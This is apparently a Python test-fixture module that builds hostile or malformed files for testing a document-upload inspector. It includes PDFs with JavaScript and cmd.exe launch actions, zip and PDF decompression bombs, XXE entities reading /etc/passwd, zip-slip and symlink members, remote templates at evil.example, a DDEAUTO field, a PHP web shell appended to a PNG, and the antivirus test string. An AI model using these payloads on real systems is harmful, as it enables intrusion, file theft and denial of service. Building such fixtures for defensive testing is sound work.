"""Files that mean harm, or cannot be read: one function a case, made here and never kept.

Each returns the content; the name it comes with is in the test's table.
"""

import io
import stat
import struct
import zipfile
import zlib

import pikepdf

from registration.evidence.inspection.signatures import OLE, TEST_STRING
from tests.evidence.honest import link, packed, parts, pdf, pdf_of, picture, png, stream, zipped

MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
ORDINARY_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# Not one of the six types


def nothing():
    return b""


def page_of_html():
    return b"<!doctype html><script>alert(1)</script>"


def drawing_with_a_script():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def encapsulated_postscript():
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n"


def program():
    return b"MZ" + b"\0" * 200


def gif():
    return picture("GIF")


def heic():
    return b"\0\0\0\x18ftypheic" + b"\0" * 100


def text():
    return b"Only some text."


def old_word_document():
    return OLE + b"\0" * 600 + "WordDocument".encode("utf-16-le") + b"\0" * 600


def ordinary_zip():
    return zipped({"policy.txt": b"A text in a zip"})


def open_document():
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})


def pdf_behind_other_bytes():
    return b"<html>" + pdf()


# PDF


def pdf_cut_in_half():
    content = pdf(pages=20)
    return content[: len(content) // 2]


def pdf_cut_before_its_last_line():
    content = pdf(pages=20)
    return content[: content.index(b"startxref")]


def pdf_that_is_only_a_beginning():
    return b"%PDF-1.7\n%%EOF"


def pdf_with_noise_in_the_middle():
    content = pdf(pages=3)
    return content[:40] + b"\x07" * (len(content) - 60) + content[-20:]


def pdf_without_pages():
    return pdf(pages=0)


def pdf_with_a_password():
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(written, encryption=pikepdf.Encryption(owner="owner", user="secret"))
    return written.getvalue()


def pdf_with_javascript():
    return pdf(catalog=rb"/OpenAction<</S/JavaScript/JS(app.alert\(1\))>>")


def pdf_with_javascript_in_escaped_letters():
    return pdf(catalog=rb"/OpenAction<</S/Java#53cript/J#53(app.alert\(1\))>>")


def pdf_with_javascript_by_name():
    return pdf(catalog=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>")


def pdf_with_javascript_deep_in_direct_objects():
    return pdf(catalog=b"/Deep[[<</A<</B[<</A<</S/JavaScript/JS(x)>>>>]>>>>]]")


def pdf_with_javascript_in_an_object_stream():
    written = io.BytesIO()
    content = pdf(catalog=b"/OpenAction 8 0 R", more=[b"<</S/JavaScript/JS(app.alert)>>"])
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in written.getvalue()
    return written.getvalue()


def pdf_that_starts_a_program():
    return pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")


def pdf_that_starts_a_program_in_escaped_letters():
    return pdf(catalog=b"/OpenAction<</S/#4caunch/F(cmd.exe)>>")


def pdf_with_a_dynamic_form():
    return pdf(catalog=b"/AcroForm<</Fields[]/XFA(<xdp/>)>>")


def pdf_with_a_film():
    return pdf(more=[b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"])


def pdf_that_reads_other_files():
    return pdf(more=[b"<</S/ImportData/F(secret.fdf)>>"])


def pdf_that_unpacks_to_gigabytes():
    """An object stream of 400 MB in 400 kB, which a reader must unpack before it knows the pages."""
    bomb = zlib.compress(b"1 0 " + b" " * 400_000_000, 9)
    table = zlib.compress(
        struct.pack(">BHB", 0, 0, 0) + struct.pack(">BHB", 2, 2, 0) + struct.pack(">BHB", 1, 9, 0)
    )
    out = bytearray(b"%PDF-1.7\n")
    out += b"2 0 obj\n" + stream(bomb, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") + b"\nendobj\n"
    start = len(out)
    entries = b"/Type/XRef/Size 3/W[1 2 1]/Root 1 0 R/Filter/FlateDecode"
    out += b"3 0 obj\n" + stream(table, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def pdf_with_pages_that_go_round():
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"])


def pdf_nested_very_deep():
    return pdf(more=[b"[" * 20_000 + b"]" * 20_000])


# Office files


def docx_cut_in_half():
    content = zipped(parts("docx", bytes(range(256)) * 400))
    return content[: len(content) // 2]


def docx_cut_in_half_with_its_directory_put_back():
    content = zipped(parts("docx", bytes(range(33, 59)) * 4_000))
    directory = content.index(b"PK\x01\x02")
    return content[: directory // 2] + b"\0" * (directory - directory // 2) + content[directory:]


def docx_with_one_wrong_byte():
    return zipped(parts("docx", b"<p>met</p>"), zipfile.ZIP_STORED).replace(b"<p>met</p>", b"<p>set</p>")


def docx_whose_members_say_another_size():
    body = parts("docx", b"<p>one</p>")["word/document.xml"]
    size = struct.pack("<L", len(body))
    return zipped(parts("docx", b"<p>one</p>"), zipfile.ZIP_STORED).replace(size * 2, size + b"\x09\0\0\0", 1)


def docx_with_bytes_hidden_behind_a_part():
    """The part ends early; what follows belongs to it by the directory, and is read by nobody."""
    body = b"<styles/>" * 50
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    inside = packer.compress(body) + packer.flush() + b"hidden" * 200
    content = bytearray(zipped(parts() | {"word/styles.xml": inside}, zipfile.ZIP_STORED))
    numbers = struct.pack("<LLL", zlib.crc32(inside), len(inside), len(inside))
    truth = struct.pack("<LLL", zlib.crc32(body), len(inside), len(body))
    for before in (6, 6):
        at = content.index(numbers)
        content[at : at + 12] = truth
        content[at - before : at - before + 2] = b"\x08\0"
    return bytes(content)


def docx_with_a_password():
    return OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600


def docx_with_locked_members():
    content = bytearray(zipped(parts()))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(mark, at + 1)) >= 0:
            content[at + place] |= 1
    return bytes(content)


def docx_that_unpacks_to_a_thousand_times_its_size():
    return zipped(parts("docx", b" " * 49_000_000))


def docx_of_ten_thousand_members():
    members = parts() | {f"word/part{number}.xml": b"" for number in range(10_000)}
    return zipped(members, zipfile.ZIP_STORED)


def docx_with_a_lying_directory():
    """Says 10 bytes with the right sum of those ten; other readers go on to 20 MB."""
    body = b"<document>" + b"A" * 20_000_000
    content = bytearray(zipped(parts() | {"word/large.xml": body}))
    real, small = struct.pack("<L", len(body)), struct.pack("<L", 10)
    real_sum, small_sum = struct.pack("<L", zlib.crc32(body)), struct.pack("<L", zlib.crc32(body[:10]))
    return bytes(content.replace(real_sum, small_sum).replace(real, small))


def docx_whose_directory_differs_from_its_members():
    content = zipped(parts("docx", b"<p>one</p>"))
    return content.replace(b"word/document.xml", b"word/documens.xml", 1)


def docx_with_a_name_twice():
    members = parts()
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", b"<other/>")
    return file.getvalue()


def docx_that_climbs_out():
    return zipped(parts() | {"../../etc/cron.d/job": b"x"})


def docx_with_a_symbolic_link():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        member = zipfile.ZipInfo("word/link.xml")
        member.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(member, "/etc/passwd")
    return file.getvalue()


def docx_with_an_external_entity():
    members = parts()
    members["word/document.xml"] = (
        b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><document>&x;</document>'
    )
    return zipped(members)


def docx_with_entities_that_grow():
    members = parts()
    grow = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 9))
    members["[Content_Types].xml"] = b'<!DOCTYPE t [<!ENTITY e0 "ha">' + grow + b"]><Types>&e8;</Types>"
    return zipped(members)


def docx_with_a_declaration_in_utf_16():
    members = parts()
    members["word/document.xml"] = '<!DOCTYPE d SYSTEM "http://evil.example/x"><document/>'.encode("utf-16")
    return zipped(members)


def docx_with_a_declaration_in_utf_7():
    members = parts()
    members["word/document.xml"] = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d+AD4-<document/>'
    return zipped(members)


def docx_with_a_declaration_late_in_a_part():
    members = parts()
    members["word/styles.xml"] = b"<!--" + b"x" * 262_130 + b"-->" + b'<!DOCTYPE d SYSTEM "x"><document/>'
    members["word/media.bin"] = bytes(range(256)) * 50
    return zipped(members, zipfile.ZIP_STORED)


def docx_with_macros():
    return zipped(parts() | {"word/vbaProject.bin": b"\0" * 50})


def docx_that_says_it_has_macros():
    members = parts()
    key = "[Content_Types].xml"
    members[key] = members[key].replace(ORDINARY_TYPE.encode(), MACRO_TYPE.encode())
    return zipped(members)


def xlsx_with_sheets_of_macros():
    return zipped(parts("xlsx") | {"xl/macrosheets/sheet1.xml": b"<macrosheet/>"})


def docx_with_a_remote_template():
    return zipped(parts(links=link("attachedTemplate", "https://evil.example/t.dotm")))


def docx_with_a_template_on_a_share():
    return zipped(parts(links=link("attachedTemplate", r"file://evil.example\share\t.dotm")))


def docx_with_a_remote_object():
    return zipped(parts(links=link("oleObject", "https://evil.example/o.bin")))


def docx_with_a_broken_list_of_parts():
    return zipped(parts() | {"[Content_Types].xml": b"<Types><Override"})


def docx_without_a_list_of_parts():
    members = parts()
    del members["[Content_Types].xml"]
    return zipped(members)


# Taken, and marked


def docx_with_an_embedded_object():
    return zipped(parts() | {"word/embeddings/oleObject1.bin": OLE + b"\0" * 50})


def docx_with_a_field_that_starts_a_program():
    return zipped(parts("docx", b'<instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</instrText>'))


def docx_with_a_picture_from_elsewhere():
    return zipped(parts(links=link("image", "https://evil.example/p.png")))


def pdf_with_a_file_inside():
    return pdf(
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)8 0 R]>>>>",
        more=[b"<</Type/Filespec/F(a.xml)/EF<</F 9 0 R>>>>", stream(b"<a/>", b"/Type/EmbeddedFile")],
    )


def pdf_with_actions_that_start_by_themselves():
    return pdf(catalog=b"/AA<</WC<</S/URI/URI(https://evil.example/)>>>>")


def pdf_that_opens_an_address():
    return pdf(catalog=b"/OpenAction<</S/URI/URI(https://evil.example/)>>")


def pdf_that_is_also_a_page():
    return pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n", 1) + b"<html><script>alert(1)</script></html>"


# Pictures


def png_of(width, height):
    """A header that claims these pixels, and next to nothing behind it."""
    header = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)

    def chunk(kind, content):
        return (
            struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 99))
        + chunk(b"IEND", b"")
    )


def png_of_sixty_thousand_squared():
    return png_of(60_000, 60_000)


def png_of_twelve_thousand_squared():
    return png_of(12_000, 12_000)


def png_of_one_long_line():
    return png_of(1, 1_000_000)


def png_that_claims_more_than_it_has():
    return png_of(2_000, 2_000)


def png_cut_in_half():
    content = picture("PNG", size=(400, 400), mode="RGBA")
    return content[: len(content) // 2]


def jpeg_cut_in_half():
    content = picture("JPEG", size=(400, 400))
    return content[: len(content) // 2]


def png_that_is_only_a_beginning():
    return png()[:8]


def postscript_behind_the_first_bytes_of_a_png():
    return b"\x89PNG\r\n\x1a\n" + encapsulated_postscript()


def png_with_a_page_behind_it():
    return png() + b"<?php system($_GET['c']); ?><script>alert(1)</script>"


# The antivirus test string


def test_string_alone():
    return TEST_STRING


def test_string_behind_a_picture():
    return png() + TEST_STRING


def test_string_across_two_pieces_of_reading():
    return b"%PDF-1.7\n" + b"x" * (1024 * 1024 - 40) + TEST_STRING + b"%%EOF"


def test_string_in_a_docx():
    return zipped(parts() | {"word/media/image1.bin": b"x" * 300_000 + TEST_STRING})


def test_string_across_two_pieces_of_a_docx():
    return zipped(
        parts() | {"word/media/image1.bin": b"x" * (256 * 1024 - 30) + TEST_STRING}, zipfile.ZIP_DEFLATED
    )


def test_string_in_a_pdf():
    return pdf(words=TEST_STRING)


def test_string_in_a_packed_pdf_stream():
    return pdf(more=[packed(b"x" * 5_000 + TEST_STRING)])
